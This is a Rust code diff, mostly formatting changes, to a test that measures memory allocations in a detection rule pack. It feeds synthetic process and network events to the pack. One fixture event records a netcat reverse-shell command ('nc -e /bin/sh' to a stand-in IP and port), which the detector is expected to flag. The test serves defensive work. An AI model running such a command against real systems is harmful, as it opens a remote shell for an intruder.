@@ -50,20 +50,28 @@ fn event(i: u64) -> (Value, i64) {
         s
     };
     let v = match i % 4 {
-        0 => json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+        0 => {
+            json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                     "host": {"id": host, "os": {"type": "linux"}},
                     "process": {"entity_id": entity, "name": "ls", "args": ["ls", "-la"], "args_count": 2,
-                                "parent": {"name": "bash"}}}),
-        1 => json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+                                "parent": {"name": "bash"}}})
+        }
+        1 => {
+            json!({"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
                     "host": {"id": host, "os": {"type": "linux"}},
                     "process": {"entity_id": entity, "name": "nc", "args": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
-                                "args_count": 5, "parent": {"name": "sh"}}}),
-        2 => json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
+                                "args_count": 5, "parent": {"name": "sh"}}})
+        }
+        2 => {
+            json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
                     "host": {"id": host, "os": {"type": "linux"}},
-                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "203.0.113.9"}}),
-        _ => json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
+                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "203.0.113.9"}})
+        }
+        _ => {
+            json!({"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
                     "host": {"id": host, "os": {"type": "linux"}},
-                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "127.0.0.1"}}),
+                    "process": {"entity_id": entity, "name": "nc"}, "destination": {"ip": "127.0.0.1"}})
+        }
     };
     (v, t)
 }
@@ -81,7 +89,14 @@ fn zero_allocations_per_event_after_warm_up() {
             buf.clear();
             buf.fill_from(e, pack.fields());
             let view = buf.view("");
-            pack.on_event(&view, EventRef { handle: i as u64, ts: *t }, &mut |_| alerts += 1);
+            pack.on_event(
+                &view,
+                EventRef {
+                    handle: i as u64,
+                    ts: *t,
+                },
+                &mut |_| alerts += 1,
+            );
         }
     };
     // Warm-up: every key and buffer has been seen once.
@@ -91,5 +106,9 @@ fn zero_allocations_per_event_after_warm_up() {
     let after = ALLOCS.load(Ordering::Relaxed);
     // One alert per (host, entity) pair per cycle: event 1 then event 2 of each group of 4.
     assert_eq!(alerts, 10_000, "every planted shell alerts once");
-    assert_eq!(after - before, 0, "allocations while matching 20,000 events");
+    assert_eq!(
+        after - before,
+        0,
+        "allocations while matching 20,000 events"
+    );
 }
